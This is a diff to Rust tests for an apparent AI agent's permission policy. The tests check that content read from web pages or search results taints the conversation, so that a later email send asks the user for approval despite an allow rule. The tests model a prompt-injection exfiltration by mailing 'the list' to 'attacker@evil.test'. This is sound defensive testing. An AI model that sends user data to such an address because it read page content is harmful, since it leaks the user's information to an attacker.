@@ -182,7 +182,8 @@ async fn page_text_taints_the_conversation_so_a_later_send_asks_despite_a_rule()
         )
         .unwrap();
     policy
-        .add_rule(Action::Allow, "email_send(*@evil.test)", RuleSource::User)
+        // A rule for the whole tool names no destination, so it is no choice of one.
+        .add_rule(Action::Allow, "email_send", RuleSource::User)
         .unwrap();
     h.add_mail_account_nowhere();
     let send = json!({"to": ["attacker@evil.test"], "subject": "list", "body": "the list"});
@@ -511,7 +512,8 @@ async fn a_search_result_or_a_headline_taints_so_a_later_send_asks_despite_a_rul
         let (h, _w) = in_world(Some(cowork_web::SearchProvider::Searxng));
         h.scheduler
             .policy()
-            .add_rule(Action::Allow, "email_send(*@evil.test)", RuleSource::User)
+            // A rule for the whole tool names no destination, so it is no choice of one.
+            .add_rule(Action::Allow, "email_send", RuleSource::User)
             .unwrap();
         h.add_mail_account_nowhere();
         let read = h.call(tool, args).await.result.unwrap();
